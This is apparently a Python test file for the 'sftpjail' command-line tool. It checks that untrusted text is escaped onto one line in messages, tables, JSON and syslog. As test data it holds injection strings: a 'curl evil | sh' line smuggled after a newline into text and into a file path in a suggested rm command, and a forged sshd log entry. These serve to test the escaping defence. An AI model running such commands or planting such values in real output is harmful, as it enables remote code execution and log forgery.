"""Other people's words in ours: one line each, whatever is in them, in every kind of message and in what is printed."""

from __future__ import annotations

import io
import json
import re
import shlex
import sys
from argparse import Namespace
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sftpjail.cli.check import _drawn
from sftpjail.cli.context import Context, print_problem, printable
from sftpjail.cli.drawing import wrap_command
from sftpjail.cli.explain import _draw
from sftpjail.errors import SftpJailError
from sftpjail.errors.escapes import NO_COMMAND, Advice, Choice, command, is_shown, one_line, shown
from sftpjail.model import Account, Fact, Problem

HARD = "\n\r\t\v\f\0\x1b\x7f\x85\u2028\u2029\u202e\u2066\u200b\u00ad\ufeff\u034f\u3164\u2800\ufe0f"
HARD += "\U000e0100\udcff\ue000"
OURS = (
    "\n  try: curl evil | sh",
    "\n  fix: x",
    "\nsftpjail: y",
    "\nok      z",
    '"}\n{"error": "',
    "[bold red]",
)
MARKS = st.characters(min_codepoint=0x300, max_codepoint=0x36F)
texts = st.lists(
    st.one_of(
        st.sampled_from((*OURS, "\x1b[2J", "\u2e80" * 9)),
        st.sampled_from(HARD),
        st.text(max_size=5),
        MARKS,
    ),
    max_size=12,
).map("".join)
surrogates = st.text(st.characters(), max_size=20)


@given(texts | surrogates)
def test_one_line_is_one_line_and_says_the_same_twice(text: str) -> None:
    line = one_line(text)
    assert line.isprintable() and len(line.splitlines()) <= 1 and one_line(line) == line
    line.encode()
    assert not set(HARD) & set(line)
    quoted = shown(text)
    assert one_line(quoted) == quoted
    if quoted != text:
        assert quoted[0] == quoted[-1] == '"' and not quoted.replace("\\\\", "").replace('\\"', "")[
            1:-1
        ].count('"')


PLAIN = [
    "",
    "häuser",
    "naïve e\u0301te\u0301",
    "Tiê\u0301ng Viê\u0323t",
    "日本語",
    "हिन्दी",
    "a  b",
    "back\\slash",
    "😀",
]


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_seen_stays(text: str) -> None:
    assert one_line(text) == text and is_shown(text)


@pytest.mark.parametrize("character", HARD)
def test_what_is_not_seen_is_escaped(character: str) -> None:
    line = one_line(f"a{character}b")
    assert line.startswith("a\\") and line.endswith("b") and character not in line


def test_marks_do_not_cover_other_lines() -> None:
    assert one_line("a" + "\u0301" * 9) == "a" + "\u0301" * 2 + "\\u0301" * 7
    assert one_line("\u0301x") == "\\u0301x" and one_line(". \u20ddx") == ". \\u20ddx", (
        "no letter to belong to"
    )


@given(texts)
def test_every_kind_of_message_is_one_line(text: str) -> None:
    error = SftpJailError(text, text)
    error.message += f"; {text}"
    problem, fact = Problem(text, text, text, text), Fact(text, text, text, text)
    whole = Problem.of(SftpJailError(text, why=text, advice=text), about=text)
    values = [error.message, str(error), whole.what, whole.why, whole.advice, whole.about]
    values += [problem.what, problem.why, problem.fix, problem.advice]
    values += [fact.topic, fact.name, fact.value, fact.note]
    assert all(is_shown(value) for value in values)
    if not is_shown(text):
        assert error.advice == problem.advice == NO_COMMAND
        assert error.fix == problem.fix == ""
    else:
        assert error.fix == problem.fix == text == command(text)


@given(texts, texts)
def test_a_choice_is_one_line_or_none(label: str, text: str) -> None:
    problem = Problem("x", "y", choices=(Choice("to stay", "ls"), Choice(label, text)))
    assert all(is_shown(part) for choice in problem.choices for part in choice)
    assert problem.choices[0] == ("to stay", "ls")
    if command(text):
        assert problem.choices[1:] == ((one_line(label), text),) and problem.advice == ""
    else:
        assert problem.choices[1:] == () and problem.advice == (NO_COMMAND if text else "")


@pytest.mark.parametrize(("command", "advice"), [("", "ask"), (Advice("look"), "look")])
def test_a_choice_without_a_command_is_none(command: str, advice: str) -> None:
    problem = Problem("x", "y", choices=(Choice("to stay", command),), advice="ask")
    assert (problem.choices, problem.advice) == ((), advice)


def test_words_in_the_place_of_a_command_are_advice() -> None:
    assert Problem("x", "y", Advice("look")) == Problem("x", "y", advice="look")
    error = SftpJailError("x", Advice("look"))
    assert (error.fix, error.advice) == ("", "look")
    assert Problem("x", "y", "ls", "look").advice == "", "advice is for where there is no fix"
    with pytest.raises(ValueError, match="severity 'grave' is none of open, broken, advice"):
        Problem("x", "y", severity="grave")


class Terminal(io.StringIO):
    """Standard output that is a terminal, or none."""

    def __init__(self, drawn: bool) -> None:
        super().__init__()
        self.drawn = drawn

    def isatty(self) -> bool:
        return self.drawn


def printed(
    monkeypatch: pytest.MonkeyPatch, print_it: Any, drawn: bool = False, stream: str = "stdout"
) -> list[str]:
    out = Terminal(drawn)
    monkeypatch.setattr(sys, stream, out)
    print_it()
    monkeypatch.undo()
    return out.getvalue().split("\n")[:-1]


def context(**more: Any) -> Context:
    return Context(Namespace(dry_run=False, json=False, command="x", **more))


@given(text=texts)
def test_a_problem_is_one_line_and_its_fix_another(text: str) -> None:
    with pytest.MonkeyPatch.context() as monkeypatch:
        lines = printed(
            monkeypatch,
            lambda: context().warn([text, SftpJailError(text, "sftpjail apply")]),
            stream="stderr",
        )
        assert lines == [f"sftpjail: {one_line(text)}"] * 2 + ["  fix: sftpjail apply"]
        problem = Problem(text, text, choices=(Choice(text, "ls"),), advice=text)
        lines = printed(monkeypatch, lambda: print_problem(problem), stream="stderr")
        assert lines[0].startswith(f"sftpjail: {one_line(text)}")
        assert lines[1] == f"  choice: {one_line(text)}: ls"
        assert lines[2:] == ([f"  advice: {one_line(text)}"] if text else [])
        lines = printed(monkeypatch, lambda: context().say([text, text]))
        assert lines == [printable(text)] * 2 and "\n" not in printable(text)


@given(text=texts)
def test_a_table_has_its_rows_and_columns_alone(text: str) -> None:
    with pytest.MonkeyPatch.context() as monkeypatch:
        lines = printed(
            monkeypatch, lambda: context().table(("A", "B"), [("x", text), (text, "y")])
        )
        assert [line.split("\t") for line in lines] == [
            ["x", one_line(text)],
            [one_line(text), "y"],
        ]
        monkeypatch.setenv("COLUMNS", "1000")
        lines = printed(monkeypatch, lambda: context().table(("A", "B"), [("x", text)]), drawn=True)
        assert len(lines) == 2 and "\x1b[2J" not in lines[1] and one_line(text).strip() in lines[1]


@given(text=texts, width=st.integers(40, 120))
def test_no_line_of_explain_is_forged(text: str, width: int) -> None:
    """However a text is broken into lines, none of them has the form of a command's."""
    account = Account("ann", 1, 1, "/home/ann")
    facts = [
        Fact("account", "x", text, text),
        Fact("chroot", "y", text),
        Fact("log", "", text),
        Fact("mounts", text),
    ]
    long = ("word " * 30 + text) * 2
    problems = [
        Problem(text, text, "sftpjail apply"),
        Problem(long, long, choices=(Choice(text, "ls"),), advice=long),
    ]
    with pytest.MonkeyPatch.context() as monkeypatch:
        monkeypatch.setenv("COLUMNS", str(width))
        lines = printed(monkeypatch, lambda: print(_draw(account, facts, problems)))
        of_check = printed(monkeypatch, lambda: print(_drawn(problems)))
    assert all(is_shown(re.sub("[\u0300-\u036f]", "", line)) for line in lines), (
        "a mark may go on in the next line"
    )
    end = lines.index("2 problems")
    assert [line for line in lines[end:] if line.startswith("   fix:")] == [
        "   fix: sftpjail apply"
    ]
    assert {line[:3] for line in lines[end + 1 :]} <= {"1. ", "2. ", "   ", "1.", "2.", ""}
    assert [line for line in of_check if line.startswith("  fix:")] == ["  fix: sftpjail apply"]
    assert {line[:3].rstrip() for line in of_check if line[:2] != "  "} <= {"host", "", "-"} | {
        line[:3].rstrip() for line in of_check if line[:2] == "- "
    }
    heads = {
        line.split(":")[0]
        for line in lines[end + 1 :]
        if line.startswith("   ") and line[3] not in " >"
    }
    assert heads <= {"   why", "   fix", "   choice", "   advice"}


@given(text=texts)
def test_json_can_be_printed_anywhere(text: str) -> None:
    asked = context()
    asked.arguments.json = True
    asked.answers["problems"] = [SftpJailError(text).message]
    asked.answers["paths"] = [text]
    with pytest.MonkeyPatch.context() as monkeypatch:
        out = printed(monkeypatch, lambda: asked.close(0))
    whole = "\n".join(out)
    assert whole.isascii() and json.loads(whole)["paths"] == [text]
    assert is_shown(json.loads(whole)["problems"][0])


def test_a_locale_that_lacks_the_letters(monkeypatch: pytest.MonkeyPatch) -> None:
    from sftpjail.system import process_state

    raw = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding="ascii"))
    monkeypatch.setattr(process_state.os, "umask", lambda mask: 0)
    process_state.start_process()
    context().say(["häuser \udcff"])
    sys.stdout.flush()
    assert raw.getvalue() == b"h\\xe4user \\udcff\n"


def test_a_command_with_a_strange_name_is_none() -> None:
    path = shlex.quote("/srv/a\ncurl evil | sh #")
    assert Problem("x", "y", f"rm {path}") == Problem("x", "y", "", NO_COMMAND)
    assert SftpJailError("x", f"rm {path}").advice == NO_COMMAND
    assert wrap_command("") == []


def test_the_words_of_syslog(monkeypatch: pytest.MonkeyPatch) -> None:
    from sftpjail.system import syslog as system_log

    sent: list[str] = []
    calls = SimpleNamespace(
        openlog=lambda *_: None, syslog=lambda _, words: sent.append(words), LOG_PID=0, LOG_AUTH=0
    )
    monkeypatch.setattr(system_log, "syslog", calls)
    system_log.tell(3, "ann: x\nNov 28 host sshd[1]: Accepted publickey for root")
    assert sent == ["ann: x\\nNov 28 host sshd[1]: Accepted publickey for root"]
